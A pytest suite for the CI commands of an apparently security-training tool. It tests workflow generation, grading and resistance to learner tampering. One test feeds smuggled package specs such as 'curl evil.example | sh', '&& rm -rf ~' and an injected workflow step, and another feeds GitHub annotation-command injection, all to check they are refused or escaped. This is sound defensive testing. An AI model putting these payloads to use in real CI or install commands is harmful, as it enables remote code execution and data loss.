"""``aisec ci init`` and ``aisec ci grade`` end to end, on the real course.

The workflow a facilitator commits runs shell lines; these tests take those lines
out of the generated YAML and run them in a clone of a workspace made with
``aisec init --git`` (only the pip install is skipped: the package is installed
here already), red with the starters and green with the reference solutions.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from tests.conftest import Run
from tutor.course.layout import default_course_dir

pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
xmlschema = pytest.importorskip("xmlschema")
SCHEMA = xmlschema.XMLSchema(str(Path(__file__).parents[1] / "fixtures" / "junit-10.xsd"))
COURSE = default_course_dir()
BIN = str(Path(sys.executable).parent)
GITHUB_ENV = {"GITHUB_ACTIONS": "true", "GITHUB_SERVER_URL": "https://github.com",
              "GITHUB_REPOSITORY": "class/ana", "GITHUB_RUN_ID": "1234",
              "GITHUB_SHA": "0123456789abcdef0123456789abcdef01234567"}
GITLAB_ENV = {"GITLAB_CI": "true", "CI_JOB_URL": "https://gitlab.example/class/ana/-/jobs/77",
              "CI_PROJECT_URL": "https://gitlab.example/class/ana",
              "CI_PROJECT_PATH": "class/ana", "CI_COMMIT_SHA": "feedface", "CI_JOB_ID": "77"}


def clean_env(extra: dict[str, str] | None = None) -> dict[str, str]:
    """This process's environment without any CI's variables (a test may run in CI)."""
    env = {k: v for k, v in os.environ.items()
           if not k.startswith(("PYTEST", "AISEC", "GITHUB_", "GITLAB_", "CI_"))}
    env.update({"NO_COLOR": "1", "PATH": BIN + os.pathsep + env.get("PATH", "")})
    return {**env, **(extra or {})}


def aisec_env(*args: str | Path, cwd: Path, env: dict[str, str] | None = None) -> Run:
    proc = subprocess.run([sys.executable, "-m", "tutor", *map(str, args)], cwd=cwd,
                          env=clean_env(env), capture_output=True, text=True, timeout=300,
                          stdin=subprocess.DEVNULL)
    return Run(proc.returncode, proc.stdout, proc.stderr)


def shell(line: str, cwd: Path, env: dict[str, str] | None = None) -> Run:
    proc = subprocess.run(["bash", "-c", line], cwd=cwd, env=clean_env(env),
                          capture_output=True, text=True, timeout=300,
                          stdin=subprocess.DEVNULL)
    return Run(proc.returncode, proc.stdout, proc.stderr)


def git(*args: str, cwd: Path) -> str:
    return subprocess.run(["git", "-c", "user.email=f@example.com", "-c", "user.name=F",
                           *args], cwd=cwd, check=True, capture_output=True,
                          text=True).stdout


def workspace(tmp_path: Path, track: str = "intro-90") -> Path:
    made = aisec_env("init", "w", "--git", "--track", track, cwd=tmp_path)
    assert made.code == 0, made.err
    return tmp_path / "w"


def commit_and_clone(ws: Path, tmp_path: Path, name: str = "clone") -> Path:
    git("add", "-A", cwd=ws)
    git("commit", "-qm", "work", cwd=ws)
    clone = tmp_path / name
    git("clone", "-q", str(ws), str(clone), cwd=tmp_path)
    return clone


def solve(clone: Path, exercise_id: str) -> None:
    from tutor.course.loader import load_course

    ex = load_course(COURSE).exercise(exercise_id)
    shutil.copyfile(COURSE / "solutions" / f"{exercise_id}.py", clone / "exercises" / ex.file)


def run_lines(workflow: dict, provider: str) -> list[str]:
    """The shell lines the workflow runs, in order, without the pip install."""
    if provider == "gitlab":
        lines = workflow["aisec-grade"]["script"]
    else:
        lines = [s["run"] for s in workflow["jobs"]["grade"]["steps"] if "run" in s]
    assert any("pip install" in line for line in lines)
    return [line for line in lines if "pip install" not in line]


# -- aisec ci init -----------------------------------------------------------------------

@pytest.mark.parametrize("provider,path", [("github", ".github/workflows/aisec.yml"),
                                           ("gitlab", ".gitlab-ci.yml"),
                                           ("classroom", ".github/workflows/classroom.yml")])
def test_ci_init_writes_a_workflow_that_parses_and_refuses_to_overwrite(tmp_path, provider,
                                                                         path):
    ws = workspace(tmp_path, "half-day")
    result = aisec_env("ci", "init", "--provider", provider, cwd=ws)
    assert result.code == 0, result.err
    assert f"Wrote {path}" in result.out
    assert "from the package index (PyPI)" in result.out and "--package" in result.out
    text = (ws / path).read_text()
    workflow = yaml.safe_load(text)
    assert "python -m pip install aisec-tutor==" in text
    if provider == "classroom":
        graders = [s for s in workflow["jobs"]["run-autograding-tests"]["steps"]
                   if "autograding-command-grader" in s.get("uses", "")]
        assert [g["with"]["command"] for g in graders] == [
            f"aisec ci grade {i}" for i in ("mask_secret", "spotlight", "safe_join",
                                            "tenant_search")]
    else:
        assert any(line.startswith("aisec ci grade --track half-day --junit")
                   for line in run_lines(workflow, provider))
    again = aisec_env("ci", "init", "--provider", provider, cwd=ws)
    assert again.code == 2 and "already exists" in again.err and "--force" in again.err
    (ws / path).write_text("# mine\n")
    forced = aisec_env("ci", "init", "--provider", provider, "--force", cwd=ws)
    assert forced.code == 0 and (ws / path).read_text() == text


@pytest.mark.parametrize("spec", ["aisec-tutor==1; curl evil.example | sh",
                                  "aisec-tutor==1 && rm -rf ~", "$(id)", "`id`",
                                  "aisec-tutor'==1", "aisec-tutor\n- run: id",
                                  "--index-url=https://evil.example aisec-tutor",
                                  "aisec-tutor ${{ secrets.TOKEN }}", "two words"])
def test_ci_init_refuses_a_package_that_is_not_one_plain_requirement(tmp_path, spec):
    ws = workspace(tmp_path)
    result = aisec_env("ci", "init", "--package", spec, cwd=ws)
    assert result.code == 2 and "--package" in result.err, result.err
    assert "Traceback" not in result.err
    assert not (ws / ".github").exists()


def test_ci_init_takes_a_wheel_url_and_quotes_it(tmp_path):
    ws = workspace(tmp_path)
    spec = "aisec-tutor @ https://example.org/w/aisec_tutor-9.0-py3-none-any.whl"
    result = aisec_env("ci", "init", "--provider", "gitlab", "--package", spec, cwd=ws)
    assert result.code == 0, result.err
    script = yaml.safe_load((ws / ".gitlab-ci.yml").read_text())["aisec-grade"]["script"]
    assert script[0] == f"python -m pip install '{spec}'"
    assert "package index" not in result.out, "said only of the default"


def test_ci_init_outside_a_workspace_and_without_git(tmp_path):
    outside = aisec_env("ci", "init", cwd=tmp_path)
    assert outside.code == 2 and "No aisec workspace" in outside.err
    made = aisec_env("init", "plain", cwd=tmp_path)
    assert made.code == 0
    result = aisec_env("ci", "init", cwd=tmp_path / "plain")
    assert result.code == 0
    assert "not a git repository" in result.err and "aisec init --git" in result.err


# -- aisec ci grade: the workflow's own commands, red then green -------------------------

@pytest.mark.parametrize("provider", ["github", "gitlab"])
def test_the_workflow_commands_run_red_then_green(tmp_path, provider):
    ws = workspace(tmp_path)
    assert aisec_env("ci", "init", "--provider", provider, cwd=ws).code == 0
    path = ".gitlab-ci.yml" if provider == "gitlab" else ".github/workflows/aisec.yml"
    clone = commit_and_clone(ws, tmp_path)
    lines = run_lines(yaml.safe_load((clone / path).read_text()), provider)
    env = GITLAB_ENV if provider == "gitlab" else GITHUB_ENV

    red = [shell(line, clone, env) for line in lines]
    assert red[-1].code == 1, red[-1].err
    assert "✗ mask_secret" in red[-1].out and "0 of 1 exercises pass." in red[-1].out
    SCHEMA.validate(str(clone / "aisec-junit.xml"))
    junit = (clone / "aisec-junit.xml").read_text()
    assert "<failure" in junit and 'name="mask_secret"' in junit
    summary = (clone / "aisec-summary.md").read_text()
    assert "0 of 1 exercises pass" in summary and "| `mask_secret` | ❌ failed |" in summary
    if provider == "github":
        assert "::error file=exercises/00_start/mask_secret.py," in red[-1].out

    solve(clone, "mask_secret")
    green = [shell(line, clone, env) for line in lines]
    assert green[-1].code == 0, green[-1].out + green[-1].err
    assert "1 of 1 exercises pass." in green[-1].out and "::error" not in green[-1].out
    SCHEMA.validate(str(clone / "aisec-junit.xml"))
    assert "<failure" not in (clone / "aisec-junit.xml").read_text()
    report = yaml.safe_load((clone / "aisec-report.json").read_text())
    assert report["summary"]["track_passed"] == 1
    assert not (clone / "solutions").exists()  # nothing copied into the learner's clone


def test_classroom_commands_grade_each_exercise_on_its_own(tmp_path):
    ws = workspace(tmp_path, "half-day")
    assert aisec_env("ci", "init", "--provider", "classroom", cwd=ws).code == 0
    clone = commit_and_clone(ws, tmp_path)
    steps = yaml.safe_load((clone / ".github/workflows/classroom.yml").read_text())[
        "jobs"]["run-autograding-tests"]["steps"]
    tests = {s["with"]["test-name"]: s["with"]["command"] for s in steps
             if "autograding-command-grader" in s.get("uses", "")}
    for exercise_id in ("mask_secret", "safe_join"):
        solve(clone, exercise_id)
    # The command grader gives its command a bare environment: PATH and HOME.
    bare = {"PATH": clean_env()["PATH"], "HOME": os.environ.get("HOME", str(tmp_path))}
    codes = {}
    for test, line in tests.items():
        proc = subprocess.run(["bash", "-c", line], cwd=clone, env=bare, capture_output=True,
                              text=True, timeout=300, stdin=subprocess.DEVNULL)
        codes[test] = proc.returncode
    assert codes == {"mask_secret": 0, "spotlight": 1, "safe_join": 0, "tenant_search": 1}


# -- what a learner commits does not change the verdict ----------------------------------

PASS_EVERYTHING = "def test_everything():\n    assert True\n"
HOOK = "import pytest\n\n@pytest.hookimpl(tryfirst=True)\ndef pytest_runtest_call(item):\n" \
       "    return True\n"


def test_committed_checks_conftest_progress_and_course_dir_change_nothing(tmp_path):
    ws = workspace(tmp_path)
    # Real progress that says mask_secret passed (a pass stays a pass after a reset).
    solve(ws, "mask_secret")
    assert aisec_env("check", "mask_secret", cwd=ws).code == 0
    assert aisec_env("reset", "mask_secret", cwd=ws).code == 0
    shutil.rmtree(ws / "solutions")
    assert yaml.safe_load(aisec_env("report", cwd=ws).out)["summary"]["track_passed"] == 1
    fake_course = tmp_path / "fake-course"
    shutil.copytree(COURSE, fake_course, ignore=shutil.ignore_patterns("__pycache__"))
    (fake_course / "tests" / "checks" / "test_mask_secret.py").write_text(PASS_EVERYTHING)
    config = ws / ".aisec" / "workspace.json"
    data = yaml.safe_load(config.read_text())
    config.write_text(json.dumps({**data, "course_dir": str(fake_course)}))
    (ws / "tests" / "checks").mkdir(parents=True)
    (ws / "tests" / "checks" / "test_mask_secret.py").write_text(PASS_EVERYTHING)
    for folder in (ws, ws / "exercises", ws / "exercises" / "00_start"):
        (folder / "conftest.py").write_text(HOOK)
    (ws / "pytest.ini").write_text("[pytest]\naddopts = -p no:tutor\n")
    for module in ("sitecustomize.py", "usercustomize.py", "tutor/__init__.py"):
        (ws / module).parent.mkdir(exist_ok=True)
        (ws / module).write_text("raise SystemExit(0)\n")
    git("add", "-A", "-f", ".aisec/progress.json", ".", cwd=ws)
    clone = commit_and_clone(ws, tmp_path)
    assert (clone / ".aisec" / "progress.json").exists()

    # As the workflow runs it: the `aisec` script, whose sys.path does not start with the
    # current folder (`python -m tutor` here would import the committed tutor/ instead).
    result = shell("aisec ci grade --report r.json", clone)
    assert result.code == 1, result.out + result.err
    assert "✗ mask_secret" in result.out
    assert f"names the course folder {fake_course}: ignored" in result.err
    assert "has a .aisec/progress.json: ignored" in result.err
    report = yaml.safe_load((clone / "r.json").read_text())
    assert report["summary"]["track_passed"] == 0 and report["graded_in"] is None

    refused = shell(f"aisec --course {fake_course} ci grade", clone)
    assert refused.code == 2 and "leave out --course" in refused.err


def test_graded_in_describes_the_ci_run(tmp_path):
    clone = commit_and_clone(workspace(tmp_path), tmp_path)
    summary_file = tmp_path / "step-summary.md"
    github = aisec_env("ci", "grade", "--report", "gh.json", cwd=clone,
                       env={**GITHUB_ENV, "GITHUB_STEP_SUMMARY": str(summary_file)})
    assert github.code == 1
    report = yaml.safe_load((clone / "gh.json").read_text())
    assert report["graded_in"] == {
        "provider": "github", "run_url": "https://github.com/class/ana/actions/runs/1234",
        "repository": "class/ana", "commit": GITHUB_ENV["GITHUB_SHA"], "run_id": "1234",
        "tool_version": report["tool_version"]}
    assert "0 of 1 exercises pass" in summary_file.read_text()
    gitlab = aisec_env("ci", "grade", "--report", "gl.json", cwd=clone, env=GITLAB_ENV)
    assert gitlab.code == 1
    assert yaml.safe_load((clone / "gl.json").read_text())["graded_in"] == {
        "provider": "gitlab", "run_url": GITLAB_ENV["CI_JOB_URL"], "repository": "class/ana",
        "commit": "feedface", "run_id": "77", "tool_version": report["tool_version"]}
    mine = aisec_env("report", cwd=clone)
    assert yaml.safe_load(mine.out)["graded_in"] is None


INJECTION = ('def mask_secret(secret, visible=4, mask_char="*"):\n'
             '    raise ValueError("boom\\n::add-mask::x\\r\\n::stop-commands::t, a: b %0A")\n')


def test_annotations_escape_what_learner_code_says(tmp_path):
    ws = workspace(tmp_path)
    (ws / "exercises" / "00_start" / "mask_secret.py").write_text(INJECTION)
    clone = commit_and_clone(ws, tmp_path)
    result = aisec_env("ci", "grade", cwd=clone, env=GITHUB_ENV)
    assert result.code == 1
    commands = [line for line in result.out.splitlines() if line.startswith("::")]
    assert len(commands) == 1, result.out
    line = commands[0]
    assert line.startswith("::error file=exercises/00_start/mask_secret.py,"
                           "title=aisec%3A mask_secret failed::")
    assert "boom%0A::add-mask::x%0A::stop-commands::t, a: b %250A" in line


def test_ci_grade_usage_errors(tmp_path):
    clone = commit_and_clone(workspace(tmp_path), tmp_path)
    unknown = aisec_env("ci", "grade", "mask_secrets", cwd=clone)
    assert unknown.code == 2 and "mask_secret" in unknown.err
    folder = aisec_env("ci", "grade", "--junit", "out/j.xml", cwd=clone)
    assert folder.code == 2 and "the folder out does not exist" in folder.err
    outside = aisec_env("ci", "grade", cwd=tmp_path)
    assert outside.code == 2 and "No aisec workspace" in outside.err
    assert "Traceback" not in unknown.err + folder.err + outside.err


def test_a_learner_sees_the_same_verdicts_with_check_all(tmp_path):
    import xml.etree.ElementTree as ET

    ws = workspace(tmp_path, "half-day")
    solve(ws, "spotlight")
    ci = aisec_env("ci", "grade", "--junit", "ci.xml", cwd=ws)
    local = aisec_env("check", "--all", "--junit", "local.xml", cwd=ws)
    assert ci.code == local.code == 1

    def verdicts(name: str) -> dict[str, list[tuple[str | None, bool]]]:
        root = ET.parse(ws / name).getroot()
        return {suite.get("name") or "": [(case.get("name"), case.find("failure") is None)
                                          for case in suite.findall("testcase")]
                for suite in root.findall("testsuite")}

    assert verdicts("ci.xml") == verdicts("local.xml")
    assert all(ok for _, ok in verdicts("ci.xml")["spotlight"])
